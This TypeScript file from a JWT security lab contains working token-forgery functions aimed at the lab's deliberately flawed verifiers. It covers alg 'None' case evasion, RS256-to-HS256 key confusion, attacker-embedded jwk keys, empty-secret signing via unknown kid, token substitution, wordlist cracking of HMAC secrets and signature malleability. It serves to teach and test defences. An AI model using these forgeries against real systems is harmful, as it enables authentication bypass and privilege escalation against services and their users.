/*
 * Lab 7 · Attack and defend: the forgeries
 *
 * neon has rank "9". Each function here makes a token that lets him in as rank "99", at the flawed
 * verifier of its step (flawed.ts). Read that verifier's few lines first: the way in stands there.
 *
 * These tokens are for the verifiers of this lab: try nothing of it on a system that is not yours.
 *
 * `npm run lab:7` says after each step what is right and what is not.
 */
import { createHmac, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import type { Evidence, Jwks } from './evidence.ts';

/** neon's token with rank "99" and without any signature (RFC 8725 §2.1). */
export function forgeUnsigned(token: string): string {
  const { header, payload } = readToken(token);
  // A list of what is forbidden forgets something: here every case but the lower one.
  return `${textOf({ ...header, alg: 'None' }, { ...payload, rank: '99' })}.`;
}

/** neon's token with rank "99", signed with what everybody can read (RFC 8725 §2.1). */
export function forgeWithPublicKey(token: string, jwks: Jwks): string {
  const { header, payload } = readToken(token);
  // The verifier looks the key up by the token's kid, so it is that one, to the letter.
  const jwk = jwks.keys.find(({ kid }) => kid === header['kid']);
  if (!jwk) throw new Error('the key of this token is not in the key set');
  const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  return signHs256({ ...header, alg: 'HS256' }, { ...payload, rank: '99' }, pem.toString());
}

/** neon's token with rank "99", signed with a key of his own. */
export function forgeWithOwnKey(token: string): string {
  const { header, payload } = readToken(token);
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  // Whoever wrote the token also says which key it is to be checked with.
  const jwk = publicKey.export({ format: 'jwk' });
  const text = textOf({ ...header, jwk }, { ...payload, rank: '99' });
  return `${text}.${sign('RSA-SHA256', Buffer.from(text), privateKey).toString('base64url')}`;
}

/** neon's token with rank "99", signed with the key that is found where there is none. */
export function forgeWithUnknownKid(token: string): string {
  const { header, payload } = readToken(token);
  // `keys[kid] ?? ''`: a key that is not found is an empty secret, and everybody has that one.
  return signHs256({ ...header, alg: 'HS256', kid: 'nobody' }, { ...payload, rank: '99' }, '');
}

/** What is signed. */
function textOf(header: object, payload: object): string {
  return `${encodeSegment(header)}.${encodeSegment(payload)}`;
}

function signHs256(header: object, payload: object, secret: string): string {
  const text = textOf(header, payload);
  return `${text}.${createHmac('sha256', secret).update(text).digest('base64url')}`;
}

/** Tokens that are genuine, say rank "99", and were never meant for this API (RFC 8725 §2.7, §2.8). */
export interface Substitutes {
  /** Made to tell an app who has logged in, not to open doors. */
  readonly idToken: string;
  /** An access token for another service. */
  readonly otherAudience: string;
  /** An access token of another issuer. */
  readonly otherIssuer: string;
}

/** Nothing is forged here, only chosen: three tokens out of the evidence. */
export function substitute(evidence: Evidence): Substitutes {
  const api = readToken(evidence.token).payload;
  const chosen: Partial<Record<keyof Substitutes, string>> = {};
  for (const token of evidence.others) {
    const { header, payload } = readToken(token);
    // An ID token is told by its type: its aud is the app that asked who has logged in.
    if (header['typ'] !== 'at+jwt') chosen.idToken = token;
    else if (payload['iss'] !== api['iss']) chosen.otherIssuer = token;
    else if (payload['aud'] !== api['aud']) chosen.otherAudience = token;
  }
  return chosen as Substitutes;
}

/** The word that an HS256 token is signed with; undefined where it is none of these words. */
export function crack(token: string, words: readonly string[]): string | undefined {
  const end = token.lastIndexOf('.');
  const text = token.slice(0, end);
  const signature = token.slice(end + 1);
  // Nobody is asked and nothing is logged: one token is enough to try words at home.
  return words.find((word) => {
    return createHmac('sha256', word).update(text).digest('base64url') === signature;
  });
}

/** The same token in another spelling, which a lax decoder accepts. */
export function twin(token: string): string {
  // The last character has bits to spare, and a lax decoder throws them away. RS256 has 256 bytes:
  // 342 characters hold 2052 bits, four more than are needed.
  const last = ALPHABET.indexOf(token.slice(-1));
  return token.slice(0, -1) + ALPHABET[last + 1];
}

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/** Given: what a token says. Nothing is checked. */
export function readToken(token: string): {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
} {
  const [header = '', payload = ''] = token.split('.');
  return { header: decodeSegment(header), payload: decodeSegment(payload) };
}

function decodeSegment(segment: string): Record<string, unknown> {
  return JSON.parse(Buffer.from(segment, 'base64url').toString()) as Record<string, unknown>;
}

/** Given: one part of a token, the value as JSON, as UTF-8, as base64url. */
export function encodeSegment(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}
